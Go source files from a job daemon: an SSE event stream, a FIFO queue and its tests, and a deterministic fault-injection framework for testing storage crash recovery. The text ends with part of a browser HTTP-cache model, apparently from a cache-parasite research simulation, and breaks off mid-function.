		return "", false
	}
	id, ok := strings.CutSuffix(rest, "/events")
	if !ok || id == "" || strings.ContainsRune(id, '/') {
		return "", false
	}
	return id, true
}

// serveEventStream streams a run's progress as live SSE: recorded
// stages replay immediately, later transitions arrive as they happen,
// and the stream closes after the terminal event (or when the client
// disconnects).
func (s *Server) serveEventStream(w http.ResponseWriter, r *http.Request, id string) {
	ch, ok := s.Subscribe(id)
	if !ok {
		status, ctype, resp := errBody(nil, http.StatusNotFound, "unknown run "+id)
		writeResponse(w, status, ctype, resp)
		return
	}
	SetResponseHeaders(http.StatusOK, sseContentType, w.Header().Set)
	w.WriteHeader(http.StatusOK)
	flusher, _ := w.(http.Flusher)
	var scratch []byte
	for {
		select {
		case ev, open := <-ch:
			if !open {
				return
			}
			scratch = AppendSSE(scratch[:0], ev)
			if _, err := w.Write(scratch); err != nil {
				return
			}
			if flusher != nil {
				flusher.Flush()
			}
		case <-r.Context().Done():
			return
		}
	}
}

// Serve starts the daemon on a loopback listener and returns its base
// URL and a shutdown function — the programmatic twin of cmd/labd,
// used by tests and the smoke gate.
func (s *Server) Serve() (baseURL string, shutdown func() error, err error) {
	return serveListener(s)
}

// serveListener is split out so transport tests can reuse it.
func serveListener(h http.Handler) (string, func() error, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, fmt.Errorf("labd listen: %w", err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	shutdown := func() error {
		err := srv.Close()
		<-done
		return err
	}
	return "http://" + ln.Addr().String(), shutdown, nil
}
