package labd

import (
	"sync"
	"testing"
)

func TestFIFOOrderAndClose(t *testing.T) {
	t.Parallel()
	q := newFIFO()
	for _, id := range []string{"a", "b", "c"} {
		q.Push(id)
	}
	if q.Len() != 3 {
		t.Fatalf("len = %d", q.Len())
	}
	for _, want := range []string{"a", "b", "c"} {
		got, ok := q.Pop()
		if !ok || got != want {
			t.Fatalf("pop = %q,%v want %q", got, ok, want)
		}
	}
	q.Push("d")
	q.Close()
	if _, ok := q.Pop(); ok {
		t.Fatal("pop succeeded on a closed queue")
	}
	q.Push("e") // no-op after close
	if _, ok := q.Pop(); ok {
		t.Fatal("push after close enqueued work")
	}
}

func TestFIFOCloseWakesBlockedPoppers(t *testing.T) {
	t.Parallel()
	q := newFIFO()
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, ok := q.Pop(); ok {
				t.Error("blocked pop returned work from an empty closed queue")
			}
		}()
	}
	q.Close()
	wg.Wait()
}
