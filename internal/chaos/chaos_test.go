package chaos

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

// TestScheduleIsDeterministic locks the splitmix64 schedule: two
// controllers with the same seed draw identical hit offsets for the
// same sites, and a different seed draws a different schedule
// somewhere across the site set.
func TestScheduleIsDeterministic(t *testing.T) {
	t.Parallel()
	fireHit := func(seed int64, site string) int {
		c := New(seed)
		c.Arm(site, Fail)
		for i := 1; i <= 4*scheduleWindow; i++ {
			if c.Hit(site).Fired {
				return i
			}
		}
		return -1
	}
	sites := []string{SiteWrite, SiteRename, SiteSync, "fleet.job.crash"}
	diverged := false
	for _, site := range sites {
		a, b := fireHit(42, site), fireHit(42, site)
		if a != b || a < 1 || a > scheduleWindow {
			t.Fatalf("site %s: same seed drew hits %d vs %d (window %d)", site, a, b, scheduleWindow)
		}
		if fireHit(43, site) != a {
			diverged = true
		}
	}
	if !diverged {
		t.Fatal("seeds 42 and 43 drew identical schedules across every site")
	}
}

// TestCrashLatchesEverything: after a Crash fault fires, every
// operation at every site — including ones never armed — fails with
// ErrKilled until the controller is discarded.
func TestCrashLatchesEverything(t *testing.T) {
	t.Parallel()
	c := New(7)
	c.ArmAt(SiteRename, 2, Crash)
	if c.Hit(SiteRename).Fired {
		t.Fatal("fault fired on hit 1, armed for hit 2")
	}
	v := c.Hit(SiteRename)
	if !v.Fired || v.Kind != Crash || !c.Killed() {
		t.Fatalf("hit 2 verdict %+v, killed=%v", v, c.Killed())
	}
	for _, site := range []string{SiteWrite, SiteRead, "never.armed"} {
		if err := c.Hit(site).Err(site); !IsKilled(err) {
			t.Fatalf("site %s after crash: err = %v, want ErrKilled", site, err)
		}
	}
	if got := c.Fired(SiteRename); got != 1 {
		t.Fatalf("Fired(%s) = %d, want 1", SiteRename, got)
	}
}

// TestFailRecursAndRearms: a Fail fault armed via Arm fires more than
// once on the seeded schedule, and the process survives each firing.
func TestFailRecursAndRearms(t *testing.T) {
	t.Parallel()
	c := New(11)
	c.Arm(SiteWrite, Fail)
	fired := 0
	for i := 0; i < 20*scheduleWindow; i++ {
		if v := c.Hit(SiteWrite); v.Fired {
			fired++
			if v.Kind != Fail {
				t.Fatalf("recurring fault fired kind %v", v.Kind)
			}
		}
	}
	if fired < 2 {
		t.Fatalf("recurring Fail fired %d times in %d hits", fired, 20*scheduleWindow)
	}
	if c.Killed() {
		t.Fatal("Fail faults must never latch the crash state")
	}
}

// TestPointZeroWhenDisarmed: with no global controller, Point is inert;
// Enable routes it to the controller and Disable restores inertness.
func TestPointZeroWhenDisarmed(t *testing.T) {
	// Not parallel: owns the global controller.
	Disable()
	if err := Point(SiteWrite); err != nil {
		t.Fatalf("disarmed Point = %v", err)
	}
	c := New(3)
	c.ArmAt(SiteWrite, 1, Fail)
	Enable(c)
	defer Disable()
	if err := Point(SiteWrite); !errors.Is(err, ErrInjected) {
		t.Fatalf("armed Point = %v, want ErrInjected", err)
	}
	if err := Point(SiteWrite); err != nil {
		t.Fatalf("one-shot ArmAt fired twice: %v", err)
	}
	Disable()
	c2 := New(3)
	c2.ArmAt(SiteWrite, 1, Fail)
	if err := Point(SiteWrite); err != nil {
		t.Fatalf("Point after Disable = %v", err)
	}
}

// TestFSShortWriteLeavesPrefix locks the torn-write model: the fault
// leaves a strict prefix of the data on disk and reports the injected
// error (Fail) or the latched kill (Crash).
func TestFSShortWriteLeavesPrefix(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	data := []byte(`{"id":"run-000001","status":"queued"}` + "\n")

	c := New(21)
	c.ArmAt(SiteWriteShort, 1, Fail)
	f := BindFS(c)
	path := filepath.Join(dir, "short.json")
	err := f.WriteFile(path, data, 0o644)
	if !errors.Is(err, ErrNoSpace) {
		t.Fatalf("short write err = %v, want ErrNoSpace", err)
	}
	got, readErr := os.ReadFile(path)
	if readErr != nil {
		t.Fatalf("torn file unreadable: %v", readErr)
	}
	if len(got) >= len(data) || string(got) != string(data[:len(got)]) {
		t.Fatalf("torn file holds %q (%d bytes), want a strict prefix of %d bytes", got, len(got), len(data))
	}

	c2 := New(21)
	c2.ArmAt(SiteWriteShort, 1, Crash)
	f2 := BindFS(c2)
	path2 := filepath.Join(dir, "crash.json")
	if err := f2.WriteFile(path2, data, 0o644); !IsKilled(err) {
		t.Fatalf("crash short write err = %v, want ErrKilled", err)
	}
	if _, err := f2.ReadFile(path2); !IsKilled(err) {
		t.Fatalf("read after crash = %v, want ErrKilled", err)
	}
	// Same seed → same cut point: the two torn files are identical.
	got2, _ := os.ReadFile(path2)
	if string(got2) != string(got) {
		t.Fatalf("cut points diverged for one seed: %q vs %q", got, got2)
	}
}

// TestFSFaultsPerSite: ENOSPC on write, injected failures on sync,
// rename, and remove — each surfacing at its own site, each leaving
// the process alive.
func TestFSFaultsPerSite(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	data := []byte("payload\n")

	c := New(5)
	c.ArmAt(SiteWrite, 1, Fail)
	f := BindFS(c)
	path := filepath.Join(dir, "a")
	if err := f.WriteFile(path, data, 0o644); !errors.Is(err, ErrNoSpace) {
		t.Fatalf("write fault = %v, want ErrNoSpace", err)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Fatal("failed write left a file behind")
	}
	// Disarmed afterwards: the same operations succeed.
	if err := f.WriteFile(path, data, 0o644); err != nil {
		t.Fatalf("write after one-shot fault: %v", err)
	}

	c.ArmAt(SiteSync, 1, Fail)
	if err := f.Sync(path); !errors.Is(err, ErrInjected) {
		t.Fatalf("sync fault = %v", err)
	}
	if err := f.Sync(path); err != nil {
		t.Fatalf("sync after fault: %v", err)
	}

	c.ArmAt(SiteRename, 1, Fail)
	if err := f.Rename(path, path+".new"); !errors.Is(err, ErrInjected) {
		t.Fatalf("rename fault = %v", err)
	}
	if err := f.Rename(path, path+".new"); err != nil {
		t.Fatalf("rename after fault: %v", err)
	}

	c.ArmAt(SiteRemove, 1, Fail)
	if err := f.Remove(path + ".new"); !errors.Is(err, ErrInjected) {
		t.Fatalf("remove fault = %v", err)
	}
	if err := f.Remove(path + ".new"); err != nil {
		t.Fatalf("remove after fault: %v", err)
	}
}

// TestSitesEnumeratesStoreSites: the registry carries every store.*
// site with a description — what the recovery matrix sweeps.
func TestSitesEnumeratesStoreSites(t *testing.T) {
	t.Parallel()
	want := []string{SiteWrite, SiteWriteShort, SiteSync, SiteSyncDir, SiteRename, SiteRemove, SiteRead, SiteReadDir}
	have := make(map[string]Site)
	for _, s := range Sites() {
		have[s.Name] = s
	}
	for _, name := range want {
		s, ok := have[name]
		if !ok || s.Desc == "" {
			t.Fatalf("site %s missing or undescribed in registry", name)
		}
	}
}

// BenchmarkPointDisarmed pins the zero-cost claim: a disarmed fault
// point is one atomic load.
func BenchmarkPointDisarmed(b *testing.B) {
	Disable()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if err := Point(SiteWrite); err != nil {
			b.Fatal(err)
		}
	}
}
