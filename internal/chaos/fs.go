package chaos

import (
	"fmt"
	"io/fs"
	"os"
)

// The store.* fault sites: every filesystem operation the labd store
// performs is instrumented at exactly one of these names.
const (
	SiteWrite      = "store.write"       // whole-file write of a .tmp (ENOSPC on Fail, cut-before-write on Crash)
	SiteWriteShort = "store.write.short" // torn write: a deterministic prefix lands, the rest never does
	SiteSync       = "store.sync"        // fsync of a freshly written file
	SiteSyncDir    = "store.syncdir"     // fsync of the store directory after a rename
	SiteRename     = "store.rename"      // the commit rename .tmp → final
	SiteRemove     = "store.remove"      // sweep/cleanup removals
	SiteRead       = "store.read"        // whole-file reads during recovery and serving
	SiteReadDir    = "store.readdir"     // directory listing during recovery
)

func init() {
	RegisterSite(SiteWrite, "write a temporary file (ENOSPC / cut before any byte lands)")
	RegisterSite(SiteWriteShort, "torn write: a seeded prefix of the data lands, the rest never does")
	RegisterSite(SiteSync, "fsync a freshly written file")
	RegisterSite(SiteSyncDir, "fsync the store directory after a rename")
	RegisterSite(SiteRename, "the commit rename of .tmp into place")
	RegisterSite(SiteRemove, "remove a swept or quarantined file")
	RegisterSite(SiteRead, "read a record, artifact, or checkpoint file")
	RegisterSite(SiteReadDir, "list the store directory during recovery")
}

// FS is the narrow filesystem surface the labd store writes through.
// The production implementation is OS (the real filesystem,
// instrumented at the store.* fault sites); chaos tests bind the same
// implementation to a private Controller with BindFS. Sync and SyncDir
// exist as first-class operations because crash durability hinges on
// them: writeAtomic's contract is write → Sync → Rename → SyncDir.
type FS interface {
	// MkdirAll creates a directory tree.
	MkdirAll(dir string, perm os.FileMode) error
	// ReadFile reads a whole file.
	ReadFile(name string) ([]byte, error)
	// ReadDir lists a directory.
	ReadDir(dir string) ([]fs.DirEntry, error)
	// WriteFile writes a whole file.
	WriteFile(name string, data []byte, perm os.FileMode) error
	// Sync fsyncs the named file's contents to stable storage.
	Sync(name string) error
	// SyncDir fsyncs a directory, making its entries (renames,
	// creations) durable.
	SyncDir(dir string) error
	// Rename atomically replaces newpath with oldpath.
	Rename(oldpath, newpath string) error
	// Remove deletes a file.
	Remove(name string) error
}

// OS is the real filesystem, instrumented at the package-level chaos
// points: with no controller enabled every operation costs one atomic
// load before hitting the os package.
var OS FS = fsys{}

// BindFS returns the real filesystem instrumented against c
// specifically, independent of the global controller — what isolated
// (parallel) chaos tests inject into the store.
func BindFS(c *Controller) FS { return fsys{c: c} }

// fsys implements FS over the os package, consulting either its bound
// controller or the global one at each fault site.
type fsys struct{ c *Controller }

func (f fsys) ctl() *Controller {
	if f.c != nil {
		return f.c
	}
	return active.Load()
}

func (f fsys) MkdirAll(dir string, perm os.FileMode) error {
	// Not a scheduled site — it runs once at store open — but a dead
	// process must not create directories either.
	if c := f.ctl(); c.Killed() {
		return ErrKilled
	}
	return os.MkdirAll(dir, perm)
}

func (f fsys) ReadFile(name string) ([]byte, error) {
	if err := f.ctl().Hit(SiteRead).Err("read " + name); err != nil {
		return nil, err
	}
	return os.ReadFile(name)
}

func (f fsys) ReadDir(dir string) ([]fs.DirEntry, error) {
	if err := f.ctl().Hit(SiteReadDir).Err("readdir " + dir); err != nil {
		return nil, err
	}
	return os.ReadDir(dir)
}

func (f fsys) WriteFile(name string, data []byte, perm os.FileMode) error {
	c := f.ctl()
	if v := c.Hit(SiteWriteShort); v.Fired {
		// The torn write: a deterministic prefix reaches the file, the
		// rest never does. On Crash the process dies mid-write; on Fail
		// it lives to observe a short-write error (ENOSPC mid-file).
		n := 0
		if len(data) > 0 {
			n = int(v.Rand % uint64(len(data)))
		}
		_ = os.WriteFile(name, data[:n], perm)
		if v.Kind == Crash {
			return ErrKilled
		}
		return fmt.Errorf("chaos: short write %s (%d of %d bytes): %w", name, n, len(data), ErrNoSpace)
	}
	if v := c.Hit(SiteWrite); v.Fired {
		if v.Kind == Crash {
			// Cut before any byte lands: the file is never created.
			return ErrKilled
		}
		return fmt.Errorf("chaos: write %s: %w", name, ErrNoSpace)
	}
	return os.WriteFile(name, data, perm)
}

func (f fsys) Sync(name string) error {
	if err := f.ctl().Hit(SiteSync).Err("fsync " + name); err != nil {
		return err
	}
	return syncPath(name)
}

func (f fsys) SyncDir(dir string) error {
	if err := f.ctl().Hit(SiteSyncDir).Err("fsync dir " + dir); err != nil {
		return err
	}
	return syncPath(dir)
}

func (f fsys) Rename(oldpath, newpath string) error {
	if err := f.ctl().Hit(SiteRename).Err("rename " + oldpath); err != nil {
		return err
	}
	return os.Rename(oldpath, newpath)
}

func (f fsys) Remove(name string) error {
	if err := f.ctl().Hit(SiteRemove).Err("remove " + name); err != nil {
		return err
	}
	return os.Remove(name)
}

// syncPath fsyncs a file or directory by path. Opening read-only is
// sufficient for fsync on the platforms the lab targets.
func syncPath(path string) error {
	fd, err := os.Open(path)
	if err != nil {
		return err
	}
	defer fd.Close()
	return fd.Sync()
}
