// Package chaos is the deterministic process/storage fault-point
// framework: named fault sites threaded through the daemon's storage
// and fleet paths, armed by a seeded splitmix64 schedule, zero-cost
// when disarmed.
//
// A fault site is a string naming one place the code can fail
// ("store.rename", "fleet.job.crash"). Instrumented code asks the
// framework for a verdict every time execution crosses a site — via
// the package-level Point (one atomic load when nothing is enabled) or
// an explicitly injected Controller — and the Controller decides, from
// its seed and the site's hit count alone, whether a fault fires
// there. Two fault kinds exist:
//
//   - Fail: the operation fails cleanly (an injected error such as
//     ENOSPC or a short write) and the process lives. Fail faults can
//     recur on a seeded schedule — the chaos-monkey mode cmd/labd's
//     -chaos flag arms.
//   - Crash: the operation is cut mid-flight (partial effects allowed,
//     e.g. a torn write) and the process is dead — the Controller
//     latches Killed and every subsequent instrumented operation fails
//     with ErrKilled, the in-process stand-in for kill -9. A test then
//     "reboots" by discarding the dead server and opening a fresh one
//     over the surviving on-disk state.
//
// Determinism is the whole point: a Controller's decisions are a pure
// function of (seed, site, hit count). The same seed against the same
// operation sequence kills the same operation, so every cell of the
// kill-point recovery matrix is reproducible.
package chaos

import (
	"errors"
	"fmt"
	"hash/fnv"
	"sort"
	"sync"
	"sync/atomic"
)

// Kind classifies what an armed fault does to the operation it fires on.
type Kind int

const (
	// Fail makes the operation return an injected error; the process
	// survives and may retry or surface the failure.
	Fail Kind = iota
	// Crash cuts the operation mid-flight and latches the Controller
	// killed: partial effects may remain (a torn file, a missing
	// rename) and every later instrumented operation fails with
	// ErrKilled until the "process" is restarted over the debris.
	Crash
)

func (k Kind) String() string {
	if k == Crash {
		return "crash"
	}
	return "fail"
}

// Sentinel errors injected faults are built from; callers classify
// with errors.Is.
var (
	// ErrInjected marks any error manufactured by this package.
	ErrInjected = errors.New("injected fault")
	// ErrNoSpace is the injected ENOSPC analogue for write faults.
	ErrNoSpace = fmt.Errorf("%w: no space left on device", ErrInjected)
	// ErrKilled is what every instrumented operation returns once a
	// Crash fault has latched — the process is dead and nothing it
	// attempts afterwards reaches the disk.
	ErrKilled = fmt.Errorf("%w: process killed", ErrInjected)
)

// IsKilled reports whether err came from a latched Crash fault.
func IsKilled(err error) bool { return errors.Is(err, ErrKilled) }

// Site describes one registered fault site for docs and matrix
// enumeration.
type Site struct {
	// Name is the site's stable identity ("store.rename").
	Name string
	// Desc says what operation the site guards.
	Desc string
}

var siteReg struct {
	mu    sync.Mutex
	order []Site
	seen  map[string]bool
}

// RegisterSite records a fault site in the package-level registry so
// Sites can enumerate it. Registering the same name twice is a no-op;
// packages register their sites at init time (this package registers
// the store.* filesystem sites, internal/labd the fleet.* ones).
func RegisterSite(name, desc string) {
	siteReg.mu.Lock()
	defer siteReg.mu.Unlock()
	if siteReg.seen == nil {
		siteReg.seen = make(map[string]bool)
	}
	if siteReg.seen[name] {
		return
	}
	siteReg.seen[name] = true
	siteReg.order = append(siteReg.order, Site{Name: name, Desc: desc})
}

// Sites returns every registered fault site sorted by name — the
// enumeration the kill-point recovery matrix sweeps and the docs table
// renders.
func Sites() []Site {
	siteReg.mu.Lock()
	defer siteReg.mu.Unlock()
	out := append([]Site(nil), siteReg.order...)
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// splitmix64 is the schedule's PRNG step: tiny, seedable, and
// statistically solid for drawing hit offsets and cut points.
func splitmix64(x uint64) uint64 {
	x += 0x9E3779B97F4A7C15
	z := x
	z ^= z >> 30
	z *= 0xBF58476D1CE4E5B9
	z ^= z >> 27
	z *= 0x94D049BB133111EB
	z ^= z >> 31
	return z
}

// fnv64 hashes a site name into the per-site stream identity, so a
// site's schedule depends only on (seed, name) — never on arming order.
func fnv64(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	return h.Sum64()
}

// scheduleWindow bounds how far ahead Arm schedules a fault: the drawn
// hit offset is in [1, scheduleWindow].
const scheduleWindow = 8

// Verdict is a Controller's decision at one site crossing.
type Verdict struct {
	// Fired reports whether a fault fires on this hit.
	Fired bool
	// Kind is the armed fault's kind (meaningful only when Fired).
	Kind Kind
	// Rand is a deterministic per-firing draw instrumented code uses
	// for fault-specific effects (e.g. where to cut a short write).
	Rand uint64
}

// Err renders the verdict as the error the instrumented operation
// should return: nil when nothing fired, ErrKilled for a crash, and an
// ErrInjected-wrapped failure naming op otherwise.
func (v Verdict) Err(op string) error {
	if !v.Fired {
		return nil
	}
	if v.Kind == Crash {
		return ErrKilled
	}
	return fmt.Errorf("chaos: %s: %w", op, ErrInjected)
}

// arm is one scheduled fault at one site.
type arm struct {
	kind  Kind
	hit   int    // fires when the site's hit count reaches this (1-based)
	recur bool   // Fail faults re-draw a next hit after firing
	state uint64 // per-site PRNG state for draws
}

// Controller owns one seeded fault schedule. The zero value is not
// usable; construct with New. All methods are safe for concurrent use,
// and a nil *Controller is inert (every Hit returns the zero Verdict),
// so call sites can thread an optional controller without guards.
type Controller struct {
	mu     sync.Mutex
	seed   uint64
	arms   map[string]*arm
	hits   map[string]int
	fired  map[string]int
	killed atomic.Bool
}

// New returns a controller whose schedule derives entirely from seed.
func New(seed int64) *Controller {
	return &Controller{
		seed:  uint64(seed),
		arms:  make(map[string]*arm),
		hits:  make(map[string]int),
		fired: make(map[string]int),
	}
}

// siteState seeds a site's private PRNG stream.
func (c *Controller) siteState(site string) uint64 { return c.seed ^ fnv64(site) }

// ArmAt schedules a fault of the given kind to fire on exactly the
// hit-th crossing of site (1-based). Crash faults are one-shot by
// nature; Fail faults armed through ArmAt fire once.
func (c *Controller) ArmAt(site string, hit int, kind Kind) {
	if hit < 1 {
		hit = 1
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.arms[site] = &arm{kind: kind, hit: hit, state: c.siteState(site)}
}

// Arm schedules a fault at site with the hit drawn from the seeded
// schedule (within the next scheduleWindow crossings). Fail faults
// recur — after firing, the next hit is re-drawn — which is the
// chaos-monkey mode for long-lived daemons; Crash faults fire once.
func (c *Controller) Arm(site string, kind Kind) {
	c.mu.Lock()
	defer c.mu.Unlock()
	state := splitmix64(c.siteState(site))
	a := &arm{kind: kind, state: state, recur: kind == Fail}
	a.hit = c.hits[site] + 1 + int(state%scheduleWindow)
	c.arms[site] = a
}

// ArmStoreFaults arms a recurring Fail fault on every store.* fault
// site at seeded hit offsets — the survivable storage-chaos profile
// cmd/labd's -chaos flag turns on. The daemon must tolerate every
// fault this injects: failed enqueues surface to the client, failed
// stage persists are retried by the next transition, and recovery
// quarantines whatever debris is left behind.
func (c *Controller) ArmStoreFaults() {
	for _, s := range Sites() {
		if len(s.Name) > 6 && s.Name[:6] == "store." {
			c.Arm(s.Name, Fail)
		}
	}
}

// Hit records one crossing of site and returns the verdict. Once a
// Crash fault has latched, every Hit — any site — returns a fired
// Crash verdict, modelling a process that no longer executes anything.
// Hit on a nil controller returns the zero (disarmed) verdict.
func (c *Controller) Hit(site string) Verdict {
	if c == nil {
		return Verdict{}
	}
	if c.killed.Load() {
		return Verdict{Fired: true, Kind: Crash}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hits[site]++
	a := c.arms[site]
	if a == nil || c.hits[site] != a.hit {
		return Verdict{}
	}
	a.state = splitmix64(a.state)
	v := Verdict{Fired: true, Kind: a.kind, Rand: a.state}
	c.fired[site]++
	if a.kind == Crash {
		c.killed.Store(true)
	} else if a.recur {
		a.state = splitmix64(a.state)
		a.hit = c.hits[site] + 1 + int(a.state%scheduleWindow)
	} else {
		delete(c.arms, site)
	}
	return v
}

// Killed reports whether a Crash fault has latched.
func (c *Controller) Killed() bool { return c != nil && c.killed.Load() }

// Fired reports how many faults have fired at site.
func (c *Controller) Fired(site string) int {
	if c == nil {
		return 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.fired[site]
}

// Hits reports how many times site has been crossed.
func (c *Controller) Hits(site string) int {
	if c == nil {
		return 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.hits[site]
}

// The globally enabled controller, consulted by Point and by FS values
// not bound to a specific controller. nil (the default) means chaos is
// off and every instrumented site costs one atomic load.
var active atomic.Pointer[Controller]

// Enable installs c as the global controller behind Point. Tests that
// need isolation should bind a controller explicitly (BindFS,
// per-server config) instead of enabling globally.
func Enable(c *Controller) { active.Store(c) }

// Disable clears the global controller; every Point is inert again.
func Disable() { active.Store(nil) }

// Active returns the globally enabled controller, or nil.
func Active() *Controller { return active.Load() }

// Point is the zero-cost-when-disarmed fault site: instrumented code
// calls Point("site.name") inline and gets nil unless a globally
// enabled controller fires a fault there. With no controller enabled
// the cost is a single atomic pointer load.
func Point(site string) error {
	c := active.Load()
	if c == nil {
		return nil
	}
	return c.Hit(site).Err(site)
}
