package httpcache

import (
	"container/list"
	"sort"
	"strings"
	"time"

	"masterparasite/internal/httpsim"
)

// Entry is one cached object.
type Entry struct {
	URL      string // host-qualified URL without query string: the cache key
	Domain   string
	Body     []byte
	Header   httpsim.Header
	StoredAt time.Duration
	TTL      time.Duration // freshness lifetime at StoredAt
	ETag     string
	NoCache  bool // requires revalidation even while fresh
}

// DefaultHeuristicTTL applies when a response carries no explicit
// freshness information (RFC 7234 §4.2.2 heuristic).
const DefaultHeuristicTTL = 10 * time.Minute

// EntryFromResponse derives a cache entry from a response, or nil when the
// response is uncacheable (no-store).
func EntryFromResponse(now time.Duration, url, domain string, resp *httpsim.Response) *Entry {
	cc := ParseCacheControl(resp.Header.Get("Cache-Control"))
	if cc.NoStore {
		return nil
	}
	ttl := DefaultHeuristicTTL
	if cc.HasMaxAge {
		ttl = cc.MaxAge
	}
	return &Entry{
		URL:      url,
		Domain:   domain,
		Body:     append([]byte(nil), resp.Body...),
		Header:   resp.Header.Clone(),
		StoredAt: now,
		TTL:      ttl,
		ETag:     resp.Header.Get("Etag"),
		NoCache:  cc.NoCache,
	}
}

// Fresh reports whether the entry may be served without revalidation.
func (e *Entry) Fresh(now time.Duration) bool {
	if e.NoCache {
		return false
	}
	return now-e.StoredAt < e.TTL
}

// Size is the entry's accounting size in bytes.
func (e *Entry) Size() int {
	n := len(e.Body) + len(e.URL)
	for k, v := range e.Header {
		n += len(k) + len(v)
	}
	return n
}

// ToResponse reconstructs the HTTP response served from cache.
func (e *Entry) ToResponse() *httpsim.Response {
	resp := httpsim.NewResponse(200, append([]byte(nil), e.Body...))
	resp.Header = e.Header.Clone()
	return resp
}

// Policy selects the replacement algorithm.
type Policy int

// Replacement policies found in the surveyed browsers.
const (
	LRU Policy = iota + 1
	FIFO
)

// String names the policy.
func (p Policy) String() string {
	switch p {
	case LRU:
		return "LRU"
	case FIFO:
		return "FIFO"
	default:
		return "unknown"
	}
}

// Options configures a Store.
type Options struct {
	// Capacity is the size budget in bytes. Zero means unbounded.
	Capacity int64
	// Policy is the replacement algorithm (default LRU).
	Policy Policy
	// Partitioned keys entries by (calling context, URL) instead of URL
	// alone — the cache-partitioning countermeasure of §VIII.
	Partitioned bool
	// Ballooning disables eviction entirely: the cache grows without
	// bound, modelling Internet Explorer's behaviour in Table I ("it
	// appears to allocate more and more space to the memory until the
	// operating system shuts down processes").
	Ballooning bool
}

// Stats counts store activity.
type Stats struct {
	Hits      int
	Misses    int
	Puts      int
	Evictions int
}

type storeItem struct {
	key   string
	entry *Entry
	elem  *list.Element
}

// Store is a capacity-bounded object cache.
type Store struct {
	opts  Options
	items map[string]*storeItem
	order *list.List // front = next eviction victim
	size  int64
	stats Stats
}

// NewStore builds a store with the given options.
func NewStore(opts Options) *Store {
	if opts.Policy == 0 {
		opts.Policy = LRU
	}
	return &Store{
		opts:  opts,
		items: make(map[string]*storeItem),
		order: list.New(),
	}
}

func (s *Store) key(partition, url string) string {
	if s.opts.Partitioned {
		return partition + "\x00" + url
	}
	return url
}

// Put stores an entry (replacing any same-key entry) and evicts to
// capacity. partition is the calling context (the top-level site) and is
// ignored unless the store is partitioned.
func (s *Store) Put(partition string, e *Entry) {
	if e == nil {
		return
	}
	k := s.key(partition, e.URL)
	s.stats.Puts++
	if old, ok := s.items[k]; ok {
		s.size -= int64(old.entry.Size())
		s.order.Remove(old.elem)
		delete(s.items, k)
	}
	it := &storeItem{key: k, entry: e}
	it.elem = s.order.PushBack(it)
	s.items[k] = it
	s.size += int64(e.Size())
	if !s.opts.Ballooning {
		s.evictToCapacity()
	}
}

func (s *Store) evictToCapacity() {
	if s.opts.Capacity <= 0 {
		return
	}
	for s.size > s.opts.Capacity && s.order.Len() > 0 {
		front := s.order.Front()
		it, ok := front.Value.(*storeItem)
		if !ok {
			return
		}
		s.removeItem(it)
		s.stats.Evictions++
	}
}

func (s *Store) removeItem(it *storeItem) {
	s.order.Remove(it.elem)
	delete(s.items, it.key)
	s.size -= int64(it.entry.Size())
}

// Get returns the entry for url, fresh or stale, updating recency under
// LRU. The caller decides whether staleness forces revalidation.
func (s *Store) Get(partition, url string) (*Entry, bool) {
	it, ok := s.items[s.key(partition, url)]
	if !ok {
		s.stats.Misses++
		return nil, false
	}
	s.stats.Hits++
	if s.opts.Policy == LRU {
		s.order.MoveToBack(it.elem)
	}
	return it.entry, true
}

// GetFresh returns the entry only if it is fresh at now.
func (s *Store) GetFresh(now time.Duration, partition, url string) (*Entry, bool) {
	e, ok := s.Get(partition, url)
	if !ok || !e.Fresh(now) {
		return nil, false
	}
	return e, true
}

// Contains reports presence without touching recency or stats.
func (s *Store) Contains(partition, url string) bool {
	_, ok := s.items[s.key(partition, url)]
	return ok
}

// Delete removes one entry.
func (s *Store) Delete(partition, url string) {
	if it, ok := s.items[s.key(partition, url)]; ok {
		s.removeItem(it)
	}
}

// Clear empties the store (the browser's "clear cache" action).
func (s *Store) Clear() {
	s.items = make(map[string]*storeItem)
	s.order.Init()
	s.size = 0
}

// Len returns the number of entries.
func (s *Store) Len() int { return len(s.items) }

// Size returns the accounted byte size.
func (s *Store) Size() int64 { return s.size }

// Capacity returns the configured byte budget.
func (s *Store) Capacity() int64 { return s.opts.Capacity }

// Stats returns a copy of the counters.
func (s *Store) Stats() Stats { return s.stats }

// Partitioned reports whether the store keys by calling context.
func (s *Store) Partitioned() bool { return s.opts.Partitioned }

// Ballooning reports whether eviction is disabled.
func (s *Store) Ballooning() bool { return s.opts.Ballooning }

// Domains returns the distinct entry domains, sorted. Used by the
// inter-domain eviction experiment (Table I column "I.D.").
func (s *Store) Domains() []string {
	seen := make(map[string]struct{})
	for _, it := range s.items {
		seen[it.entry.Domain] = struct{}{}
	}
	out := make([]string, 0, len(seen))
	for d := range seen {
		out = append(out, d)
	}
	sort.Strings(out)
	return out
}

// URLs returns all cached URLs, sorted (diagnostics and tests).
func (s *Store) URLs() []string {
	out := make([]string, 0, len(s.items))
	for _, it := range s.items {
		out = append(out, it.entry.URL)
	}
	sort.Strings(out)
	return out
}

// CountWhere counts entries whose URL satisfies pred.
func (s *Store) CountWhere(pred func(*Entry) bool) int {
	n := 0
	for _, it := range s.items {
		if pred(it.entry) {
			n++
		}
	}
	return n
}

// CookieJar stores cookies per domain. Cookie state matters because Table
// III shows parasite removal is tied to cookie clearing.
type CookieJar struct {
	cookies map[string]map[string]string
}

// NewCookieJar returns an empty jar.
func NewCookieJar() *CookieJar {
	return &CookieJar{cookies: make(map[string]map[string]string)}
}

// Set stores a cookie.
func (j *CookieJar) Set(domain, name, value string) {
